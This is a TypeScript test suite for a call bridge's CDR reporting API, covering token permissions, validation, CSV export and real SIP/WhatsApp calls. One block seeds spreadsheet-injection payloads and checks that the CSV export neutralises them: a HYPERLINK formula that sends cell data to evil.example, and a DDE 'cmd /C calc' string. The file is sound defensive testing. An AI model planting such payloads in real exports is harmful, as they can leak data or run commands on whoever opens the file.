      const served = await api(`/api/calls/${ids.meta}/media/${odd.id}`);
      assert.equal(served.headers.get('content-type'), 'application/octet-stream', 'HTML is never served as HTML');
      await served.arrayBuffer();

      for (const p of [`/api/calls/${ids.meta}/media/${failed.id}`, `/api/calls/${ids.meta}/media/${elsewhere.id}`, `/api/calls/${crypto.randomUUID()}/media/${rec.id}`]) {
        assert.equal((await api(p)).status, 404, p);
      }
      const bad = await api(`/api/calls/${ids.meta}/media/abc`);
      assert.equal(bad.status, 400);
      assert.equal(((await bad.json()) as { field: string }).field, 'mediaId');
      await media.markDeleted([rec.id]);
      const gone = await api(`/api/calls/${ids.meta}/media/${rec.id}`);
      assert.equal(gone.status, 404);
      assert.match(((await gone.json()) as { error: string }).error, /deleted at .* \(retention\)/);
    });
  });

  describe('issue 17: what a reporting token sees, formulas in CSV, far-future ranges', () => {
    const X_FROM = '2019-07-01T00:00:00Z';
    const X = `from=${X_FROM}&to=2019-07-02T00:00:00Z`;
    const recordedId = crypto.randomUUID();
    const hostileId = crypto.randomUUID();
    before(async () => {
      await write([
        { id: recordedId, direction: 'inbound', state: 'ended', offered_at: new Date('2019-07-01T10:00:00Z'), outcome: 'answered', recording_path: '/var/lib/rtpengine-recording/secret-layout/x.wav', recording_bytes: '10' },
        {
          id: hostileId, direction: 'inbound', state: 'ended', offered_at: new Date('2019-07-01T11:00:00Z'), outcome: 'failed',
          agent: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', wa_codec: '@SUM(1+1)*cmd|\' /C calc\'!A0', pbx_codec: '+cmd',
          sip_final_reason: '-2+3', error: '\t=1+1', pbx_target: '\r=1', customer_number: '+15550900001', business_number: '+15550900002',
        },
      ]);
    });

    it('a reporting token never sees recording_path (list, one call, CSV); the admin token does', async () => {
      const list = await json<Page>(`/api/calls?${X}`);
      const mine = list.calls.find((c) => c.id === recordedId)!;
      assert.ok(mine, 'the call is listed');
      assert.ok(!('recording_path' in mine), 'not in the list');
      const one = await json<{ call: Record<string, unknown> }>(`/api/calls/${recordedId}`);
      assert.ok(!('recording_path' in one.call), 'not in the detail view');
      const csv = await (await api(`/api/calls?${X}&format=csv`)).text();
      assert.ok(!parseCsv(csv)[0]!.includes('recording_path'), 'not a CSV column');
      assert.ok(!csv.includes('secret-layout'), 'the path appears nowhere in the CSV');

      const adminList = await json<Page>(`/api/calls?${X}`, ADMIN);
      assert.equal(adminList.calls.find((c) => c.id === recordedId)!.recording_path, '/var/lib/rtpengine-recording/secret-layout/x.wav');
      const adminOne = await json<{ call: Record<string, unknown> }>(`/api/calls/${recordedId}`, ADMIN);
      assert.equal(adminOne.call.recording_path, '/var/lib/rtpengine-recording/secret-layout/x.wav');
      const adminCsv = parseCsv(await (await api(`/api/calls?${X}&format=csv`, { token: ADMIN })).text());
      assert.deepEqual(adminCsv[0], CALL_COLUMNS.map((c) => c.name));
    });

    it('CSV: a text field a spreadsheet would run as a formula gets a single quote in front; numbers stay as they are', async () => {
      for (const token of [READER, ADMIN]) {
        const [header, ...rows] = parseCsv(await (await api(`/api/calls?${X}&format=csv`, { token })).text());
        const row = rows.find((r) => r[0] === hostileId)!;
        const get = (n: string) => row[header!.indexOf(n)];
        assert.equal(get('agent'), `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
        assert.equal(get('wa_codec'), `'@SUM(1+1)*cmd|' /C calc'!A0`);
        assert.equal(get('pbx_codec'), "'+cmd");
        assert.equal(get('sip_final_reason'), "'-2+3");
        assert.equal(get('error'), "'\t=1+1");
        assert.equal(get('pbx_target'), "'\r=1");
        assert.equal(get('customer_number'), '+15550900001', 'an E.164 number is not a formula');
        assert.equal(get('business_number'), '+15550900002');
        for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r](?!\d+$)/, `cell ${JSON.stringify(cell)} would start a formula`);
      }
      // JSON is data, not a spreadsheet: the values are as recorded.
      const one = await json<{ call: Record<string, unknown> }>(`/api/calls/${hostileId}`);
      assert.equal(one.call.agent, '=HYPERLINK("http://evil.example/?x="&A1,"Click")');
    });

    it('a summary ending in the year 9999 read in a zone 12 h behind UTC: 400 naming to, not a 500; just inside: 200', async () => {
      const cases: Array<[string, string]> = [
        ['from=9999-12-01&to=9999-12-31T23:00&tz=Etc/GMT%2B12', 'to'],
        ['from=9999-12-01&to=9999-12-31T23:59:59.999999&tz=America/Los_Angeles&group_by=hour', 'to'],
        ['from=1000-01-01&to=1000-01-05&tz=Etc/GMT-14', 'from'],
      ];
      for (const [q, field] of cases) {
        const res = await api(`/api/reports/summary?${q}`);
        const body = (await res.json()) as { error: string; field: string };
        assert.equal(res.status, 400, `${q}: ${JSON.stringify(body)}`);
        assert.equal(body.field, field);
        assert.match(body.error, /outside the years 1000 to 9999 in UTC/);
      }
      const inside = await json<Summary>('/api/reports/summary?from=9999-12-01&to=9999-12-31&tz=Etc/GMT%2B12&group_by=hour');
      assert.equal(inside.to, '9999-12-31T12:00:00.000000Z');
      assert.equal(inside.totals.offered, 0);
    });
  });

  describe('invalid parameters: 400 naming the field', () => {
    const cases: Array<[string, string]> = [
      ['/api/calls?from=yesterday', 'from'],
      ['/api/calls?from=2019-02-30', 'from'],
      ['/api/calls?from=2019-03-01T25:00:00Z', 'from'],
      ['/api/calls?to=2019-03-01T10:00:00 07:00', 'to'],
      ['/api/calls?from=2019-03-02&to=2019-03-01', 'to'],
      ['/api/calls?from=2019-03-02&to=2019-03-02', 'to'],
      ['/api/calls?direction=sideways', 'direction'],
      ['/api/calls?outcome=answered,maybe', 'outcome'],
      ['/api/calls?customer=12345', 'customer'],
      ['/api/calls?customer=+6281361905133', 'customer'],
      ['/api/calls?business=%2B0123456789', 'business'],
      ['/api/calls?state=dancing', 'state'],
      ['/api/calls?mos_below=0.5', 'mos_below'],
      ['/api/calls?mos_below=abc', 'mos_below'],
      ['/api/calls?poor_quality=yes', 'poor_quality'],
      ['/api/calls?recorded=1', 'recorded'],
      ['/api/calls?limit=0', 'limit'],
      ['/api/calls?limit=1001', 'limit'],
      ['/api/calls?limit=ten', 'limit'],
      ['/api/calls?cursor=not-a-cursor', 'cursor'],
      [`/api/calls?cursor=${Buffer.from('2019-03-01T00:00:00.000000Z|123').toString('base64url')}`, 'cursor'],
      [`/api/calls?cursor=${Buffer.from('2019-02-30T00:00:00.000000Z|' + crypto.randomUUID()).toString('base64url')}`, 'cursor'],
      ['/api/calls?format=xml', 'format'],
      ['/api/calls?colour=blue', 'colour'],
      ['/api/calls?direction=inbound&direction=outbound', 'direction'],
      ['/api/calls/live?limit=1', 'limit'],
      ['/api/calls/not-a-uuid', 'id'],
      ['/api/calls/not-a-uuid/recording', 'id'],
      ['/api/reports/summary', 'from'],
      ['/api/reports/summary?from=2019-06-01', 'to'],
      ['/api/reports/summary?from=2019-06-01&to=2019-06-02&group_by=week', 'group_by'],
      ['/api/reports/summary?from=2019-06-01&to=2019-06-02&tz=Mars/Olympus_Mons', 'tz'],
      ['/api/reports/summary?from=2019-06-01&to=2019-06-02&tz=Bad%3Bzone', 'tz'],
      ['/api/reports/summary?from=2019-06-01T00:00:00Z&to=2020-08-01T00:00:00Z', 'to'],
      ['/api/reports/summary?from=2019-06-01&to=2020-07-10&tz=Asia/Jakarta', 'to'],
      ['/api/reports/summary?from=2019-06-02&to=2019-06-01', 'to'],
      ['/api/reports/summary?from=2019-06-01&to=2019-06-02&agent=agentA', 'agent'],
    ];
    for (const [p, field] of cases) {
      it(`${p} -> ${field}`, async () => {
        const res = await api(p);
        const body = (await res.json()) as { error: string; field: string };
        assert.equal(res.status, 400, JSON.stringify(body));
        assert.equal(body.field, field);
        assert.ok(body.error.length > 10, body.error);
      });
    }
    it('the message says what is wrong, and about %2B when a "+" arrived as a space', async () => {
      const body = (await (await api('/api/calls?customer=+6281361905133')).json()) as { error: string };
      assert.match(body.error, /E\.164.*%2B/);
      const bad = (await (await api('/api/calls?outcome=maybe')).json()) as { error: string };
      assert.match(bad.error, /unknown outcome "maybe"; outcomes are answered, busy/);
    });
    it('POST /api/calls/<not a uuid>/hangup -> 400 id (admin)', async () => {
      const res = await api('/api/calls/xyz/hangup', { method: 'POST', token: ADMIN });
      assert.equal(res.status, 400);
      assert.equal(((await res.json()) as { field: string }).field, 'id');
    });
  });

  describe('live calls', () => {
    it('lists none when nothing is in progress; hanging up an unknown call is a 404', async () => {
      assert.deepEqual(await json('/api/calls/live'), { calls: [] });
      const res = await api(`/api/calls/${crypto.randomUUID()}/hangup`, { method: 'POST', token: ADMIN });
      assert.equal(res.status, 404);
      assert.deepEqual(await res.json(), { error: 'no call in progress with this id' });
    });
  });

  describe('auth', () => {
    it('no token or a bad one: 401 with WWW-Authenticate: Bearer', async () => {
      for (const token of [null, 'not-the-token-0123456789']) {
        for (const p of ['/api/calls', '/api/reports/summary?from=2019-06-01&to=2019-06-02', '/api/settings', '/api/nothing-here']) {
          const res = await api(p, { token });
          assert.equal(res.status, 401, `${p} ${token}`);
          assert.match(res.headers.get('www-authenticate') ?? '', /^Bearer/);
        }
      }
    });

    it('a reporting token reads calls and reports but gets 403 on hangup, settings and permissions (any spelling)', async () => {
      for (const p of ['/api/calls?limit=1', '/api/calls/live', '/api/reports/summary?from=2019-06-01&to=2019-06-02']) {
        assert.equal((await api(p)).status, 200, p);
        assert.equal((await api(p, { token: 'second-reporting-token-0123' })).status, 200, p);
      }
      const id = crypto.randomUUID();
      for (const [method, p] of [['POST', `/api/calls/${id}/hangup`], ['GET', '/api/settings'], ['GET', '/API/Settings'], ['GET', '/api/settings/'],
        ['GET', '/api/permissions'], ['POST', '/api/permission-requests'], ['POST', '/api/calls'], ['DELETE', `/api/calls/${id}`]] as const) {
        const res = await api(p, { method });
        assert.equal(res.status, 403, `${method} ${p}`);
        assert.match(((await res.json()) as { error: string }).error, /reporting token/);
      }
    });

    it('the admin token can do both', async () => {
      assert.equal((await api('/api/calls?limit=1', { token: ADMIN })).status, 200);
      assert.equal((await api(`/api/calls/${crypto.randomUUID()}/hangup`, { method: 'POST', token: ADMIN })).status, 404, 'allowed, no such call');
      assert.equal((await api('/api/settings', { token: ADMIN })).status, 200);
    });

    it('GET /api/openapi.json needs no token', async () => {
      const res = await api('/api/openapi.json', { token: null });
      assert.ok(res.status !== 401 && res.status !== 403, String(res.status));
    });

    it('no token configured: 404 "admin API disabled"; reporting tokens alone: admin routes refused', async () => {
      const bare = await startStack({ RTPENGINE_DTMF_LOG: '' }); // one DTMF log listener per run: the main stack has it
      try {
        for (const p of ['/api/calls', '/api/settings']) {
          const res = await fetch(`http://127.0.0.1:${bare.bridge.httpPort}${p}`, { headers: { Authorization: `Bearer ${ADMIN}` } });
          assert.equal(res.status, 404);
          assert.deepEqual(await res.json(), { error: 'admin API disabled: set ADMIN_API_TOKEN' });
        }
      } finally {
        await bare.stop();
      }
      const readers = await startStack({ REPORTING_API_TOKENS: READER, RTPENGINE_DTMF_LOG: '' });
      try {
        const get = (p: string, token: string | null) => fetch(`http://127.0.0.1:${readers.bridge.httpPort}${p}`, { headers: token ? { Authorization: `Bearer ${token}` } : {} });
        assert.equal((await get('/api/calls?limit=1', READER)).status, 200);
        assert.equal((await get('/api/settings', READER)).status, 403);
        assert.equal((await get('/api/settings', ADMIN)).status, 401);
        assert.equal((await get('/api/settings', null)).status, 401);
      } finally {
        await readers.stop();
      }
    });

    it('never logs a token', async () => {
      let logged = '';
      const sink = new Writable({ write(chunk: Buffer, _e, cb) { logged += chunk.toString(); cb(); } });
      const log = pino({ level: 'debug' }, sink);
      const router = new Router({ prefix: '/api' });
      router.get('/settings', (ctx) => { ctx.body = { ok: true }; });
      const app = createHttpApp([apiAuth({ adminToken: ADMIN, reportingTokens: [READER], log }), router], { ready: async () => ({ ok: true, checks: {} }) }, log);
      const server: http.Server = await listen(app, 0, '127.0.0.1');
      try {
        const port = (server.address() as AddressInfo).port;
        for (const token of [READER, 'wrong-token-abcdef0123456789', ADMIN]) {
          await fetch(`http://127.0.0.1:${port}/api/settings`, { headers: { Authorization: `Bearer ${token}` } });
        }
      } finally {
        await new Promise((r) => server.close(r));
      }
      assert.match(logged, /refused/);
      for (const t of [READER, ADMIN, 'wrong-token-abcdef0123456789']) assert.ok(!logged.includes(t), 'token in the log');
    });
  });
});

/**
 * Rows written by real calls: a WhatsApp user (libwebrtc) calling through the YCloud simulator, the
 * bridge, rtpengine, drachtio-server and SIPp as the PBX; an agent calling out through SIPp.
 */
describe('CDR reporting API over real calls', function () {
  this.timeout(90000);
  const BUSINESS = '+6283100000901';
  const CUSTOMER = '+6281300000901';
  const started = new Date(Date.now() - 1000).toISOString();
  const ids: Record<string, string> = {};
  const parts = callParts();

  const tokens = { ADMIN_API_TOKEN: ADMIN, REPORTING_API_TOKENS: READER };
  const api = (s: TestStack, p: string, method = 'GET', token = READER) =>
    fetch(`http://127.0.0.1:${s.bridge.httpPort}${p}`, { method, headers: { Authorization: `Bearer ${token}` } });

  /** A PBX played by SIPp with `scenario`, and a bridge dialling it. */
  async function inboundSetUp(scenario: string, env: Record<string, string> = {}): Promise<TestStack> {
    parts.phone = new RtpPhone(1000, 440);
    parts.sipp = await startSippUas(scenario, { rtpPort: await parts.phone.start() });
    parts.stack = await startStack({ PBX_TARGET: parts.sipp.uri, ...tokens, ...env });
    parts.user = new WaUser(440, 1000);
    return parts.stack;
  }

  it('an answered inbound call', async () => {
    const s = await inboundSetUp('uas-answer.xml');
    const { wacid } = await s.sim.userCalls(parts.user!, { to: BUSINESS, from: CUSTOMER });
    await parts.user!.heard.whenHeard(25);
    await parts.phone!.heard.whenHeard(25);
    await s.sim.userHangsUp(wacid);
    ids.answered = await whenEnded(s.bridge, wacid);
    assert.equal(await parts.sipp!.done, 0);
  });

  it('a missed inbound call: the PBX is busy', async () => {
    const s = await inboundSetUp('uas-busy.xml');
    const { wacid } = await s.sim.userCalls(parts.user!, { to: BUSINESS, from: CUSTOMER });
    ids.busy = await whenEnded(s.bridge, wacid);
  });

  it('the caller hangs up while the agent phone rings; the ringing call is listed live', async () => {
    const s = await inboundSetUp('uas-ring.xml');
    const { wacid } = await s.sim.userCalls(parts.user!, { to: BUSINESS, from: CUSTOMER });
    await s.marks.waitFor(wacid, 'pbx_ringing');
    const live = (await (await api(s, '/api/calls/live')).json()) as { calls: Array<{ id: string; wacid: string; state: string; customer_number: string; duration_seconds: number }> };
    const mine = live.calls.find((c) => c.wacid === wacid);
    assert.ok(mine, JSON.stringify(live));
    assert.equal(mine.state, 'ringing');
    assert.equal(mine.customer_number, CUSTOMER);
    assert.equal(typeof mine.duration_seconds, 'number');
    await s.sim.userHangsUp(wacid);
    ids.abandoned = await whenEnded(s.bridge, wacid);
    assert.equal(await parts.sipp!.done, 0);
  });

  it('an operator hangs up a ringing call: 403 with the reporting token, 200 with the admin token', async () => {
    const s = await inboundSetUp('uas-ring.xml');
    const { wacid } = await s.sim.userCalls(parts.user!, { to: BUSINESS, from: CUSTOMER });
    await s.marks.waitFor(wacid, 'pbx_ringing');
    const live = (await (await api(s, '/api/calls/live')).json()) as { calls: Array<{ id: string; wacid: string }> };
    const id = live.calls.find((c) => c.wacid === wacid)!.id;
    assert.equal((await api(s, `/api/calls/${id}/hangup`, 'POST')).status, 403);
    const res = await api(s, `/api/calls/${id}/hangup`, 'POST', ADMIN);
    assert.equal(res.status, 200);
    assert.deepEqual(await res.json(), { ended: true });
    ids.hungUp = await whenEnded(s.bridge, wacid);
    assert.equal(ids.hungUp, id);
    assert.equal(await parts.sipp!.done, 0, 'the PBX got CANCEL');
    assert.equal((await api(s, `/api/calls/${id}/hangup`, 'POST', ADMIN)).status, 404, 'no longer in progress');
  });

  it('an answered outbound call from an agent', async () => {
    parts.phone = new RtpPhone(1000, 440);
    const rtpPort = await parts.phone.start();
    parts.user = new WaUser(440, 1000);
    const s = (parts.stack = await startStack({ SIP_TRUSTED_SOURCES: '127.0.0.0/8', WA_BUSINESS_NUMBER: BUSINESS, WA_PHONE_ID: '461269257068831', ...tokens }));
    await grantPermanentPermission(s.bridge.permissions, BUSINESS, CUSTOMER);
    s.sim.outboundScript = s.sim.answeredBy(parts.user, 400);
    // The agent's phone names this test's business number (the stock scenario names the default one).
    const scenario = path.join(os.tmpdir(), `wasb-uac-call-hangup-${process.pid}.xml`);
    const stock = fs.readFileSync(path.join(__dirname, '..', '..', 'test', 'sipp', 'uac-call-hangup.xml'), 'utf8');
    fs.writeFileSync(scenario, stock.replace(/X-WhatsApp-Business-Number: \S+/, `X-WhatsApp-Business-Number: ${BUSINESS}`));
    parts.sipp = await runSippUac(scenario, { target: `127.0.0.1:${infra.drachtio!.sipPort}`, number: CUSTOMER, rtpPort });
    assert.equal(await parts.sipp.done, 0, parts.sipp.proc.output.slice(-1500));
    fs.rmSync(scenario, { force: true });
    const invite = s.marks.marks.find((m) => m.name === 'invite_received')!;
    ids.outbound = await whenEnded(s.bridge, invite.wacid);
  });

  describe('the API over those calls', () => {
    let reader: TestStack | null = null;
    before(async function () {
      if (Object.keys(ids).length < 5) this.skip();
      reader = await startStack(tokens);
    });
    after(async () => {
      await reader?.stop();
    });
    const get = async <T>(p: string): Promise<T> => {
      const res = await api(reader!, p);
      assert.equal(res.status, 200, await res.clone().text());
      return (await res.json()) as T;
    };
    const mine = `business=${encodeURIComponent(BUSINESS)}&from=${encodeURIComponent(started)}`;

    it('lists the five calls newest first with their outcomes, and filters them', async () => {
      const { calls } = await get<Page>(`/api/calls?${mine}`);
      assert.deepEqual(calls.map((c) => c.id), [ids.outbound, ids.hungUp, ids.abandoned, ids.busy, ids.answered]);
      assert.deepEqual(calls.map((c) => [c.direction, c.outcome, c.hangup_by]), [
        ['outbound', 'answered', 'pbx'], ['inbound', 'failed', 'bridge'], ['inbound', 'caller_hangup', 'whatsapp'], ['inbound', 'busy', 'pbx'], ['inbound', 'answered', 'whatsapp'],
      ]);
      const busy = await get<Page>(`/api/calls?${mine}&outcome=busy`);
      assert.deepEqual(busy.calls.map((c) => [c.id, c.sip_final_code]), [[ids.busy, 486]]);
      const out = await get<Page>(`/api/calls?${mine}&direction=outbound`);
      assert.deepEqual(out.calls.map((c) => [c.id, c.agent]), [[ids.outbound, 'agent201']]);
      const agent = await get<Page>(`/api/calls?${mine}&agent=agent101&customer=${encodeURIComponent(CUSTOMER)}`);
      assert.deepEqual(agent.calls.map((c) => c.id), [ids.answered]);
      const missed = await get<Page>(`/api/calls?${mine}&direction=inbound&outcome=busy,no_answer,caller_hangup,failed`);
      assert.equal(missed.calls.length, 3);
    });

    it('pages of two join up to the same list; the CSV has the same calls', async () => {
      const all: string[] = [];
      let cursor: string | null = null;
      do {
        const page: Page = await get<Page>(`/api/calls?${mine}&limit=2${cursor ? `&cursor=${cursor}` : ''}`);
        all.push(...page.calls.map((c) => c.id));
        cursor = page.next_cursor;
      } while (cursor);
      assert.deepEqual(all, [ids.outbound, ids.hungUp, ids.abandoned, ids.busy, ids.answered]);
      const res = await fetch(`http://127.0.0.1:${reader!.bridge.httpPort}/api/calls?${mine}`, { headers: { Authorization: `Bearer ${READER}`, Accept: 'text/csv' } });
      assert.deepEqual(parseCsv(await res.text()).slice(1).map((r) => r[0]), all);
    });

    it('one call: the answered inbound call with its timeline and media statistics', async () => {
      const { call, timeline } = await get<{ call: ApiCall; timeline: Array<{ type: string }> }>(`/api/calls/${ids.answered}`);
      assert.equal(call.outcome, 'answered');
      assert.equal(typeof call.talk_seconds, 'number');
      assert.ok(call.talk_seconds! > 0.3);
      assert.ok(call.media_stats!.legs.whatsapp!.packets > 25);
      const types = timeline.map((e) => e.type);
      let at = 0;
      for (const t of ['offered', 'pre_accepted', 'invite_sent', 'pbx_answered', 'accepted', 'whatsapp_terminated', 'ended']) {
        at = types.indexOf(t, at);
        assert.ok(at >= 0, `${t} in order in ${types.join(',')}`);
      }
    });

    it('the summary figures of those calls', async () => {
      const { calls } = await get<Page>(`/api/calls?${mine}`);
      const to = new Date(Date.now() + 60e3).toISOString();
      const s = await get<Summary>(`/api/reports/summary?from=${encodeURIComponent(started)}&to=${encodeURIComponent(to)}&group_by=business_number`);
      const g = s.groups.find((x) => x.group === BUSINESS)!;
      const talk = calls.filter((c) => c.outcome === 'answered').reduce((a, c) => a + c.talk_seconds!, 0);
      assert.equal(g.offered, 5);
      assert.equal(g.answered, 2);
      assert.equal(g.missed, 3, 'busy, abandoned and the call hung up before anyone answered');
      assert.equal(g.abandoned, 1);
      assert.equal(g.answer_rate, 0.4);
      assert.ok(Math.abs(g.talk_seconds_total - talk) < 0.002, `${g.talk_seconds_total} vs ${talk}`);
      assert.ok(g.wait_seconds_avg! > 0 && g.wait_seconds_p90! >= g.wait_seconds_avg! - 1e-9);
    });
  });
});

/** Ends an agent's call from the API while WhatsApp rings (its own calls: the block above counts its five). */
describe('an operator ends an agent\'s call (real call)', function () {
  this.timeout(90000);
  const BUSINESS = '+6283100000902';
  const CUSTOMER = '+6281300000902';
  const parts2 = callParts();
  const tokens = { ADMIN_API_TOKEN: ADMIN, REPORTING_API_TOKENS: READER };
  const api = (s: TestStack, p: string, method = 'GET', token = READER) =>
    fetch(`http://127.0.0.1:${s.bridge.httpPort}${p}`, { method, headers: { Authorization: `Bearer ${token}` } });

  it('an operator hangs up an agent\'s call while WhatsApp rings: the agent gets 503, the CDR and the log say the operator ended it', async () => {
    parts2.phone = new RtpPhone(1000, 440);
    const rtpPort = await parts2.phone.start();
    parts2.user = new WaUser(440, 1000);
    const tap = new LogTap();
    const s = (parts2.stack = await startStack({ SIP_TRUSTED_SOURCES: '127.0.0.0/8', WA_BUSINESS_NUMBER: BUSINESS, ...tokens, LOG_LEVEL: 'info' }, { logStream: tap }));
    const timeline = new Timeline(s.bridge.cdr);
    await grantPermanentPermission(s.bridge.permissions, BUSINESS, CUSTOMER);
    const user = parts2.user;
    s.sim.outboundScript = (call) => s.sim.rings(call, user); // rings, never answered
    // The agent's phone names this test's business number (the stock scenario names the default one).
    const scenario = path.join(os.tmpdir(), `wasb-uac-call-refused-${process.pid}.xml`);
    const stock = fs.readFileSync(path.join(__dirname, '..', '..', 'test', 'sipp', 'uac-call-refused-503.xml'), 'utf8');
    fs.writeFileSync(scenario, stock.replace(/X-WhatsApp-Business-Number: \S+/, `X-WhatsApp-Business-Number: ${BUSINESS}`));
    parts2.sipp = await runSippUac(scenario, { target: `127.0.0.1:${infra.drachtio!.sipPort}`, number: CUSTOMER, rtpPort });
    const id = (await within(s.marks.waitFor(null, 'invite_received'), 10000, () => 'the INVITE taken')).wacid; // an agent's call: its bridge id
    await within(timeline.waitFor('provider_status'), 10000, () => 'RINGING from WhatsApp');
    const live = (await (await api(s, '/api/calls/live', 'GET', ADMIN)).json()) as { calls: Array<{ id: string; state: string }> };
    assert.equal(live.calls.find((c) => c.id === id)?.state, 'ringing', JSON.stringify(live));
    const res = await api(s, `/api/calls/${id}/hangup`, 'POST', ADMIN);
    assert.equal(res.status, 200);
    assert.equal(await whenEnded(s.bridge, id), id);
    assert.equal(await parts2.sipp.done, 0, parts2.sipp.proc.output.slice(-1500));
    fs.rmSync(scenario, { force: true });
    const row = await rows().CallRecord.findByPk(id);
    assert.equal(row?.outcome, 'failed');
    assert.equal(row?.hangup_by, 'bridge');
    assert.equal(row?.error, 'ended by an operator');
    assert.equal(row?.sip_final_code, 503);
    const line = await tap.waitFor(/call ended by the bridge/, 5000);
    assert.equal(line.reason, 'ended by an operator');
    assert.equal(line.callId, id);
  });
});
